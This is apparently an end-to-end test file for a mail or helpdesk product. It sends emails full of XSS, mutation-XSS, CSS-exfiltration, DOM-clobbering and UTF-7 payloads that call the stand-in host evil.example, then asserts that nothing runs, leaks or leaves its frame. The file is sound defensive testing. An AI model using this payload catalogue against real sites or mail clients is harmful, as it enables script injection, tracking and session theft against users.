// Mail that attacks whoever opens it. Each vector would name itself in the window's `ran`, ask evil.example for something,
// or move the page; none may. Written after the known families; runs on the stage that stories.mjs has set.
import assert from 'node:assert/strict'
import nodemailer from 'nodemailer'
import { openWindow, until } from './product.mjs'

/** In each: RAN is the script that must not run, EVIL an address that must not be asked for. */
const VECTORS = {
  handlers: String.raw`
<img src=x onerror=RAN>
<img src=x onerror="RAN"//>
<img/src=x/onerror=RAN>
<img src="x" on&#101;rror="RAN">
<IMG SRC=x OnErRoR=RAN>
<img src=x:x onerror&#61;RAN>
<img """><script>RAN</script>">
<img src='x' title="'onerror=RAN//'">
<body onload=RAN onpageshow=RAN>
<div onmouseover=RAN onpointerenter=RAN style="width:999px;height:20px">hover</div>
<a href=# onfocus=RAN autofocus tabindex=1>focus</a>
<input onfocus=RAN autofocus>
<select onfocus=RAN autofocus><option>x</select>
<textarea onfocus=RAN autofocus>x</textarea>
<button onclick=RAN autofocus onfocus=RAN>x</button>
<details open ontoggle=RAN><summary>x</summary>x</details>
<marquee onstart=RAN>x</marquee>
<video onloadstart=RAN src=EVIL><source onerror=RAN></video>
<audio src=EVIL onerror=RAN autoplay>
<p style="animation:x" onanimationstart=RAN>x</p>
<div contenteditable oninput=RAN onbeforeinput=RAN onblur=RAN>x</div>
<img src=x␉onerror=RAN><img src=x␌onerror=RAN><img/␌/onerror=RAN␉src=x>
<img␀src=x onerror=RAN><img src=x o␀nerror=RAN>
<dialog open onclose=RAN oncancel=RAN><form method=dialog><button autofocus>x</button></form></dialog>
<style onload=RAN></style><link rel=stylesheet href="data:," onload=RAN onerror=RAN>
<iframe onload=RAN></iframe><object onerror=RAN data=x></object>
<picture><source srcset=x><img onerror=RAN src=x></picture><img srcset=x onerror=RAN>
<input type=image src=x onerror=RAN><input type=hidden oncontentvisibilityautostatechange=RAN style=content-visibility:auto>
<div onscroll=RAN onscrollend=RAN style="overflow:auto;height:10px"><p style="height:90px" id=y>x</p></div>
<p ontransitionend=RAN ontransitionrun=RAN style="transition:color 1s;color:red">x</p>
<meter onmouseover=RAN>x</meter><progress onmousemove=RAN>x</progress>
<x onclick=RAN id=x tabindex=1 onfocus=RAN autofocus>x</x>
<div popover id=pop ontoggle=RAN onbeforetoggle=RAN>x</div><button popovertarget=pop>x</button>
<table background="javascript:RAN"><tr><td background="javascript:RAN" onclick=RAN>x</table>`,
  scripts: String.raw`
<script>RAN</script>
<SCRIPT SRC=EVIL></SCRIPT>
<script src="data:text/javascript,RAN"></script>
<script type=module>RAN</script>
<scr<script>ipt>RAN</scr</script>ipt>
<script/x>RAN</script >
<script
>RAN</script
>
<<script>RAN//<</script>
<script>/*</script><script>*/RAN</script>
<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>
<template><img src=x onerror=RAN></template>
<template shadowrootmode=open><img src=x onerror=RAN></template>
<iframe src="javascript:RAN"></iframe>
<iframe srcdoc="<script>parent.RAN;RAN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=RAN&gt;"></iframe>
<iframe src="data:text/html,<script>RAN</script>"></iframe>
<iframe src=EVIL></iframe>
<frameset><frame src="javascript:RAN"></frameset>
<object data="javascript:RAN"></object>
<object data="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4="></object>
<object type=text/html data=EVIL><param name=src value=EVIL></object>
<embed src="javascript:RAN"><embed src=EVIL>
<applet code=EVIL></applet>
<xml><x><script>RAN</script></x></xml>
<portal src=EVIL></portal><fencedframe src=EVIL></fencedframe>`,
  links: String.raw`
<a href="javascript:RAN">x</a>
<a href="JaVaScRiPt:RAN">x</a>
<a href="  javascript:RAN">x</a>
<a href="java&#10;script:RAN">x</a>
<a href="java&Tab;script:RAN">x</a>
<a href="java&NewLine;script&colon;RAN">x</a>
<a href="&#x6A;&#97;vascript&#0000058;RAN">x</a>
<a href="&#1;javascript:RAN">x</a>
<a href="javascript://%0aRAN">x</a>
<a href="javascript:/*http://*/RAN">x</a>
<a href="javas␉cript:RAN">x</a>
<a href="␀javascript:RAN">x</a>
<a href="java␀script:RAN">x</a>
<a href="javascript&colon;RAN">x</a>
<a href="feed:javascript:RAN">x</a><a href="jar:javascript:RAN">x</a><a href="about:blank#RAN">x</a>
<a href=javascript:RAN>x</a><a href='javascript:RAN'>x</a><a href=${'`'}javascript:RAN${'`'}>x</a>
<a href="https://evil.example" onclick="RAN" onauxclick="RAN" style="display:block;height:9000px">x</a>
<a href="vbscript:RAN">x</a>
<a href="data:text/html,<script>RAN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuPTE8L3NjcmlwdD4=">x</a>
<a href="data:image/svg+xml,<svg onload=RAN xmlns='http://www.w3.org/2000/svg'/>">x</a>
<a href="blob:RAN">x</a><a href="file:///etc/passwd">x</a><a href="view-source:EVIL">x</a>
<a href="/api/v1/sign-out">x</a><a href="//evil.example/relative">x</a>
<a xlink:href="javascript:RAN" href="?">x</a>
<a ping=EVIL href=#>x</a>
<a href="#" target=_top>x</a><a href="javascript:RAN" target=_parent>x</a>
<map name=m><area shape=default href="javascript:RAN" target=_top></map><img usemap=#m width=50 height=50>
<form action="javascript:RAN"><input type=submit></form>
<form action=EVIL id=f><button>x</button></form><button form=f formaction="javascript:RAN">x</button>
<isindex action="javascript:RAN" type=submit value=x>`,
  foreign: String.raw`
<svg onload=RAN>
<svg/onload=RAN//
<svg><script>RAN</script></svg>
<svg><script href="data:,RAN"/></svg>
<svg><script>&#114;&#97;n=1;RAN</script></svg>
<svg><a xlink:href="javascript:RAN"><text y=20>x</text></a></svg>
<svg><animate onbegin=RAN attributeName=x dur=1s></svg>
<svg><set attributeName=onmouseover to="RAN"></svg>
<svg><a><animate attributeName=href values="javascript:RAN"/><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='RAN'/></svg>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>RAN</script>"></iframe></foreignObject></svg>
<svg><image href=EVIL /><feImage href=EVIL /></svg>
<svg><style>@import "EVIL";</style></svg>
<svg></p><style><a id="</style><img src=x onerror=RAN>"></svg>
<math href="javascript:RAN">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=RAN></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><script>RAN</script></annotation-xml></math>
<math><maction actiontype="statusline#http://evil.example" xlink:href="javascript:RAN">x</maction></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RAN>"></svg></math>
<svg><title><style><img src=x onerror=RAN></style></title></svg>
<svg><desc><![CDATA[</desc><img src=x onerror=RAN>]]></desc></svg>`,
  mutations: String.raw`
<noembed><img title="</noembed><img src=x onerror=RAN>"></noembed>
<xmp><p title="</xmp><img src=x onerror=RAN>"></xmp>
<title><a title="</title><img src=x onerror=RAN>"></title>
<textarea><a title="</textarea><img src=x onerror=RAN>"></textarea>
<style><a title="</style><img src=x onerror=RAN>"></style>
<listing>&lt;img src=x onerror=RAN&gt;</listing>
<!--><img src=x onerror=RAN>-->
<!--!><img src=x onerror=RAN>--!>
<!-- --!><img src=x onerror=RAN> -->
<![CDATA[<img src=x onerror=RAN>]]>
<?xml version="1.0"?><?x <img src=x onerror=RAN>?>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=RAN>">]>&e;
<!--[if gte IE 4]><script>RAN</script><![endif]-->
<!--[if true]><img onerror=RAN src=><![endif]-->
<img src="${'`'}${'`'}onerror=RAN">
<p title="&lt;/p&gt;&lt;img src=x onerror=RAN&gt;">x</p>
<table><tbody><tr><td><svg><td><style></style><img src=x onerror=RAN></table>
<select><option><style></option></select><img src=x onerror=RAN></style></select>
<a><b><p><a><b><p><a><img src=x onerror=RAN
<div title='unclosed><img src=x onerror=RAN>'>x</div>
<b/><img src=x/ onerror=RAN /x="
">
<p id="</p><img src=x onerror=RAN>">x`,
  styles: String.raw`
<style>@import url(EVIL);@import "EVIL";body{background:url(EVIL)}@font-face{font-family:x;src:url(EVIL)}*{font-family:x}</style>
<link rel=stylesheet href=EVIL><link rel=prefetch href=EVIL><link rel=preload as=image href=EVIL><link rel="dns-prefetch preconnect icon" href=EVIL>
<div style="background:url(EVIL)">x</div>
<div style="background-image:url('EVIL')">x</div>
<div style="background:u\72l(EVIL)">x</div>
<div style="background:&#117;rl(EVIL)">x</div>
<div style="background:image-set('EVIL' 1x)">x</div>
<div style="list-style:url(EVIL) inside">x</div>
<div style="content:url(EVIL);cursor:url(EVIL),auto;border-image:url(EVIL);mask:url(EVIL);filter:url(EVIL);shape-outside:url(EVIL)">x</div>
<div style="--x:url(EVIL);background:var(--x)">x</div>
<div style="width:expression(RAN);behavior:url(EVIL);-moz-binding:url(EVIL)">x</div>
<div style="position:fixed;inset:0;z-index:99999;background:red;width:100vw;height:100vh">over</div>
<div style="position:absolute;top:-900px;left:-900px;width:5000px;height:5000px;background:red">over</div>
<div style="margin:-900px;padding:900px;transform:scale(50);opacity:0.1">over</div>
<font style='font-family:"x;background:url(EVIL);"'>x</font>
<p style="color:red;/*"><img src=x onerror=RAN>*/">x</p>
<p style="font:1px x\27\3b background:url(EVIL)">x</p>
<ul style="list-style-image:url(EVIL)"><li>x</ul>
<table style="background:url(EVIL)" background=EVIL><tr background=EVIL><td background=EVIL>x</table>`,
  remote: String.raw`
<meta http-equiv=refresh content="0;url=EVIL"><meta http-equiv=refresh content="0;javascript:RAN">
<meta http-equiv=set-cookie content="x=1"><meta http-equiv=Content-Security-Policy content="img-src *; script-src * 'unsafe-inline'">
<base href=EVIL><base target=_top>
<img src=EVIL><img src="//evil.example/x"><img src=" EVIL">
<img src=x srcset="EVIL 1x, EVIL 2x"><picture><source srcset=EVIL><img src=x></picture>
<img lowsrc=EVIL dynsrc=EVIL src=x><img src=x longdesc=EVIL><input type=image src=EVIL>
<video poster=EVIL src=EVIL><track src=EVIL></video><bgsound src=EVIL><audio src=EVIL autoplay></audio>
<body background=EVIL><html manifest=EVIL>
<amp-img src=EVIL></amp-img><amp-script src=EVIL></amp-script><script type="application/ld+json">{"@context":"EVIL"}</script>
<img src="cid:../../api/v1/users"><img src="cid:x&quot; onerror=RAN"><img src="cid:javascript:RAN">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RAN'><image href='EVIL'/></svg>">
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLnJhbj0xIi8+">
<v:image xmlns:v="urn:schemas-microsoft-com:vml" src=EVIL /><o:p onclick=RAN>x</o:p>
<a id=document name=document>x</a><a id=top name=top>x</a><img name=cookie id=location><form name=body id=body><input name=parentNode></form><a id=ran name=ran href="EVIL">x</a>
<iframe name=parent></iframe><object name=getElementById></object><embed name=querySelector>`,
}

const evil = 'eve@evil.example'

/** All vectors of a family in one mail, numbered, so that what runs says which it was. */
const numbered = (family, lines) =>
  lines.trim().split(/\n(?=<)/).map((vector, index) => {
    const name = `${family}-${index}`
    return vector.replaceAll('RAN', `top.ran='${name}'`.replaceAll("'", vector.includes("'RAN'") || vector.includes("'><") ? '&#39;' : "'"))
      .replaceAll('EVIL', `http://evil.example/${name}`).replaceAll('␉', '\t').replaceAll('␌', '\f').replaceAll('␀', '\0')
  }).join('\n<p>–</p>\n')

/** What the frames hold that has no business there. */
const findings = (page) =>
  page.evaluate(() => {
    const allowed = /^(html|head|body|meta|style|a|abbr|address|article|aside|b|bdi|bdo|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|tr|tt|u|ul|var|wbr)$/
    const found = []
    const frames = [...document.querySelectorAll('iframe')]
    for (const frame of frames) {
      const mail = frame.contentDocument
      if (frame.contentWindow.ran || window.ran) found.push(`ran: ${frame.contentWindow.ran ?? window.ran}`)
      for (const element of mail.querySelectorAll('*')) {
        if (!allowed.test(element.localName) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`<${element.localName}>`)
        if (element.localName === 'style' && element.parentNode !== mail.head) found.push('a style sheet of its own')
        for (const { name, value } of element.attributes) {
          if (/^on|^(srcdoc|srcset|action|formaction|background|ping|poster|id|usemap|form|autofocus)$/.test(name)) found.push(`${element.localName} ${name}`)
          if (name === 'href' && !/^(https?:|mailto:|tel:|#)/.test(value)) found.push(`href ${value}`)
          if (name === 'src' && !/^(https?:|data:image\/(png|jpe?g|gif|webp);|\/api\/v1\/attachments\/)/.test(value)) found.push(`src ${value}`)
          if (name === 'style' && /url\(|expression|position|@import|behavior|binding/i.test(value)) found.push(`style ${value}`)
          if (name === 'target' && value !== '_blank') found.push(`target ${value}`)
        }
        const shown = frame.contentWindow.getComputedStyle(element)
        if (/fixed|absolute|sticky/.test(shown.position)) found.push(`${element.localName} is ${shown.position}`)
      }
    }
    // nothing of a mail stands over our own controls
    for (const control of document.querySelectorAll('header button, nav a, h1')) {
      const { x, y, width, height } = control.getBoundingClientRect()
      const top = width && height && y > 0 && y < innerHeight && x > 0 ? document.elementFromPoint(x + width / 2, y + height / 2) : null
      if (top?.localName === 'iframe') found.push(`a frame over ${control.textContent}`)
    }
    return { frames: frames.length, found: [...new Set(found)] }
  })

export const tellOfHostileMail = (story, stage) => {
  story('no vector of any family runs, asks outside, or leaves its frame', async () => {
    const { browser, product, page: owner, conversationOf } = stage()
    const transport = nodemailer.createTransport({ host: '127.0.0.1', port: product.smtp, ignoreTLS: true })
    const send = (mail) => transport.sendMail({ to: 'podpora@zrno.example', subject: 'Offers', ...mail })
    const families = Object.entries(VECTORS)
    let last
    for (const [index, [family, lines]] of families.entries()) {
      const messageId = `<hostile-${index}@evil.example>`
      await send({ from: evil, messageId, inReplyTo: last, html: `<h3>${family}</h3>\n${numbered(family, lines)}` })
      last = messageId
    }
    // the same in every other place that shows a stranger's words, and in a charset where "<" is no "<"
    const words = `"'><img src=x onerror=top.ran='words'><script>top.ran='words'</script>\${top.ran=1}{{top.ran=1}}`
    await send({
      from: { name: words, address: evil }, cc: { name: words, address: 'cc@evil.example' }, messageId: '<hostile-words@evil.example>', inReplyTo: last,
      text: `${words}\njavascript:top.ran='text' http://evil.example/"onmouseover=top.ran='text' <a href=javascript:top.ran=1>x</a>`,
      attachments: [
        { filename: `"><img src=x onerror=top.ran='file'>.txt`, content: words },
        { filename: 'evil.svg', contentType: 'image/svg+xml', content: "<svg xmlns='http://www.w3.org/2000/svg' onload='top.ran=1'/>", cid: 'evil', contentDisposition: 'inline' },
        { filename: 'evil.html', contentType: 'text/html', content: '<script>top.ran=1</script>' },
      ],
    })
    await transport.sendMail({
      envelope: { from: evil, to: ['podpora@zrno.example'] },
      raw: `From: ${evil}\r\nTo: podpora@zrno.example\r\nSubject: Offers\r\nMessage-ID: <hostile-utf7@evil.example>\r\nIn-Reply-To: ${last}\r\n`
        + 'MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-7\r\n\r\n<h3>utf-7</h3>+ADw-script+AD4-top.ran=1+ADw-/script+AD4- +ADw-img src=x onerror=top.ran=1+AD4-\r\n',
    })
    await send({ from: { name: words, address: 'name@evil.example' }, subject: `Subject ${words}`, html: '<p>x</p>' })
    transport.close()
    const conversation = await conversationOf('Offers')
    const { api } = stage()
    await until('all of them in one conversation', async () =>
      (await api('GET', `/conversations/${conversation.id}/messages?limit=50`)).items.length === families.length + 2)

    const page = await openWindow(browser, product, { storageState: await owner.context().storageState() })
    const asked = []
    const told = []
    page.on('request', (request) => /^(data|blob):/.test(request.url()) || request.url().startsWith(product.url) || asked.push(request))
    page.on('dialog', (dialog) => { told.push(`dialog ${dialog.message()}`); return dialog.dismiss() })
    page.on('popup', (popup) => told.push(`popup ${popup.url()}`))
    page.on('framenavigated', (frame) => frame.url().startsWith(product.url) || /^about:(blank|srcdoc)$/.test(frame.url()) || told.push(`went to ${frame.url()}`))
    await page.goto(`/inbox/open/${conversation.number}`)
    await page.frameLocator('iframe').last().getByText('utf-7').waitFor()
    await until('every frame', async () => (await page.locator('iframe').count()) === families.length + 1)
    const title = await page.title()
    for (const frame of await page.locator('iframe').all()) {
      await frame.scrollIntoViewIfNeeded()
      const box = await frame.boundingBox()
      await page.mouse.move(box.x + 40, Math.max(80, Math.min(box.y + 30, 860)), { steps: 3 })
    }
    await page.locator('body').press('Tab')
    const seen = await findings(page)
    assert.equal(seen.frames, families.length + 1)
    assert.deepEqual(seen.found, [])
    assert.equal(await page.evaluate(() => window.ran), undefined)
    assert.equal(await page.title(), title)
    // what the policy has stopped was never sent
    const sent = asked.filter((request) => request.failure()?.errorText !== 'csp').map((request) => request.url())
    assert.deepEqual({ sent, told }, { sent: [], told: [] })
    assert.match(page.url(), new RegExp(`^${product.url}`))

    // with consent pictures are fetched, and nothing but pictures
    const kinds = new Set()
    await page.route('http://evil.example/**', (route) => { kinds.add(route.request().resourceType()); return route.abort() })
    for (const button of await page.getByRole('button', { name: 'Show images' }).all()) await button.click()
    await until('the pictures to be asked for', () => kinds.size > 0)
    await page.waitForLoadState('networkidle')
    assert.deepEqual([...kinds], ['image'])
    assert.deepEqual((await findings(page)).found, [])

    // names, subjects and words as they are read in lists, in the search and in the browser's title
    await page.goto('/inbox/open')
    await page.locator('a.li').filter({ hasText: 'Subject ' }).first().click()
    await page.getByRole('heading', { name: /Subject "'><img/ }).waitFor()
    assert.equal(await page.evaluate(() => window.ran), undefined)
    assert.deepEqual(told, [])
    await page.context().close()
  })
}
